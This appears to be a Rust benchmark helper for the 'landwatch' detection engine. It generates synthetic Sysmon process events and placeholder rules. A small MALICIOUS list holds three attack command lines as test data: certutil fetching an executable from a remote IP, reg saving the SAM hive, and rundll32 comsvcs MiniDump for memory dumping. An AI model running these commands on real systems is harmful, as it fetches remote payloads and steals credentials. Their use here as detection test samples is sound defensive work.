//! Deterministic generators of events and rules for landwatch's benchmarks.

use landwatch::ast::{EventKind, Expr, Field, Level, Op, Predicate, Quantifier, Rule};
use landwatch::{Origin, RulesBuilder};

pub mod sysmon;
pub use sysmon::write_process_events;

/// A tiny deterministic generator (xorshift64*), so runs compare.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed.max(1))
    }

    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    pub fn pick<'a>(&mut self, xs: &'a [&'a str]) -> &'a str {
        xs[(self.next_u64() % xs.len() as u64) as usize]
    }
}

const BENIGN: &[(&str, &str)] = &[
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234,i,5678 /prefetch:1"#),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -NoProfile -Command Get-Service -Name Spooler"),
    (r"C:\Windows\System32\ipconfig.exe", r"ipconfig /all"),
    (r"C:\Windows\System32\cmd.exe", r#"C:\Windows\system32\cmd.exe /c "C:\ProgramData\RMM\scripts\disk_check.cmd""#),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    (r"C:\Program Files\Microsoft\Teams\current\Teams.exe", r#""C:\Program Files\Microsoft\Teams\current\Teams.exe" --process-start-args "--system-initiated""#),
    (r"C:\Windows\System32\certutil.exe", r"certutil -hashfile C:\Users\alice\Downloads\setup.msi SHA256"),
];

const MALICIOUS: &[(&str, &str)] = &[
    (r"C:\Windows\System32\certutil.exe", r"certutil -urlcache -split -f http://198.51.100.7/t.exe C:\ProgramData\t.exe"),
    (r"C:\Windows\System32\reg.exe", r"reg save HKLM\SAM C:\Windows\Temp\sam.save"),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full"),
];

/// `n` Sysmon process-creation events as JSON lines: 99.5% benign, 0.5% LotL.
pub fn sysmon_events(n: usize, seed: u64) -> Vec<String> {
    let mut rng = Rng::new(seed);
    let users = ["CONTOSO\\alice", "CONTOSO\\bob", "CONTOSO\\svc-rmm", "NT AUTHORITY\\SYSTEM"];
    let hosts = ["CD-WS014.contoso.local", "CD-WS022.contoso.local", "CD-FS01.contoso.local"];
    (0..n)
        .map(|i| {
            let (image, cmd) = if rng.next_u64() % 1000 < 5 {
                MALICIOUS[(rng.next_u64() % MALICIOUS.len() as u64) as usize]
            } else {
                BENIGN[(rng.next_u64() % BENIGN.len() as u64) as usize]
            };
            let ev = serde_json::json!({
                "EventID": 1,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": rng.pick(&hosts),
                // Ten events a second, in order, from 10:00.
                "UtcTime": format!("2026-11-03 {:02}:{:02}:{:02}.{:03}", 10 + i / 36_000 % 14, i / 600 % 60, i / 10 % 60, i % 10 * 100),
                "ProcessGuid": format!("{{5AA13A44-D441-68FC-{:04X}-000000004002}}", i % 65536),
                "ProcessId": 1000 + (i % 60000),
                "Image": image,
                "FileVersion": "10.0.20348.1 (WinBuild.160101.0800)",
                "Company": "Microsoft Corporation",
                "CommandLine": cmd,
                "CurrentDirectory": "C:\\Windows\\system32\\",
                "User": rng.pick(&users),
                "IntegrityLevel": "Medium",
                "Hashes": "SHA256=C6A168C81654F5901E864C8FD61FA54F084CD8B2E0A8AC1B83EACF9EB4484F75",
                "ParentImage": "C:\\Windows\\explorer.exe",
                "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
            });
            ev.to_string()
        })
        .collect()
}

/// `n` generated process rules, almost all never matching the generated events:
/// `Image endswith '\toolN.exe' and CommandLine contains any ('-flagN', 'payloadN.bin')`.
pub fn generated_rules(n: usize) -> landwatch::Rules {
    let mut b = RulesBuilder::new();
    for i in 0..n {
        let pred = |field: &str, op: Op| {
            Expr::Pred(Predicate {
                field: Field::new(field),
                op,
                cased: false,
            })
        };
        let rule = Rule {
            id: format!("gen.rule{i}"),
            title: format!("generated rule {i}"),
            level: Level::Medium,
            tags: vec![],
            references: vec![],
            description: None,
            on: EventKind::Process,
            when: Expr::And(vec![
                pred("Image", Op::EndsWith(vec![format!(r"\tool{i}.exe")])),
                pred(
                    "CommandLine",
                    Op::Contains(
                        Quantifier::Any,
                        vec![format!("-flag{i}"), format!("payload{i}.bin")],
                    ),
                ),
            ]),
        };
        b = b.add_rule(
            rule,
            Origin {
                file: "generated".into(),
                line: i + 1,
                column: 1,
            },
        );
    }
    b.build().expect("generated rules compile")
}
